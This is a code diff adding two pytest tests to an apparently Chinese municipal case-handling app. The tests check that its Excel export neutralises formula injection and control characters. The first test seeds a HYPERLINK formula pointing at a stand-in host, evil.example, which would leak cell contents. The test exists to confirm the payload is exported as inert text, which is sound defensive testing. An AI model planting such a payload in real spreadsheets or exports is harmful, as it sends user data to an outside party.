@@ -237,3 +237,34 @@ def test_csv_in_gbk_imports(user):
     assert result.created == 1
     c = Case.objects.get(external_id="12345-C1")
     assert c.case_type_id == "noise" and c.channel == Case.Channel.HOTLINE
+
+
+def test_export_writes_formula_like_public_input_as_quoted_text(client_for):
+    """An anonymous resident's text must never become a live formula in the staff's Excel."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    pk = Case.objects.filter(region__code__startswith="131002").order_by("pk").values_list(
+        "pk", flat=True).first()
+    Case.objects.filter(pk=pk).update(description=evil, reporter_name="@SUM(A1)",
+                                      address="+86 138 0000 0000", outcome="-5")
+    number = Case.objects.get(pk=pk).number
+    for who in ("district", "viewer1"):
+        resp = client_for(who).get("/cases/export.xlsx")
+        assert resp.status_code == 200
+        ws = openpyxl.load_workbook(io.BytesIO(resp.content)).active
+        header = [c.value for c in ws[1]]
+        row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == number)
+        cells = {h: row[header.index(h)] for h in ("诉求内容", "联系人", "地址", "办理结果")}
+        assert {h: (c.value, c.data_type) for h, c in cells.items()} == {
+            "诉求内容": ("'" + evil, "s"), "联系人": ("'@SUM(A1)", "s"),
+            "地址": ("'+86 138 0000 0000", "s"), "办理结果": ("'-5", "s")}
+        assert not any(c.data_type == "f" for r in ws.iter_rows() for c in r)
+
+
+def test_export_of_an_old_row_with_a_control_character_does_not_fail(client_for):
+    pk = Case.objects.filter(region__code__startswith="131002").order_by("pk").values_list(
+        "pk", flat=True).first()
+    Case.objects.filter(pk=pk).update(description="路灯\x07不亮\n已两天")  # stored before the check
+    number = Case.objects.get(pk=pk).number
+    header, rows = _export(client_for("district"))
+    row = next(r for r in rows if r[0] == number)
+    assert row[header.index("诉求内容")] == "路灯\ufffd不亮\n已两天"
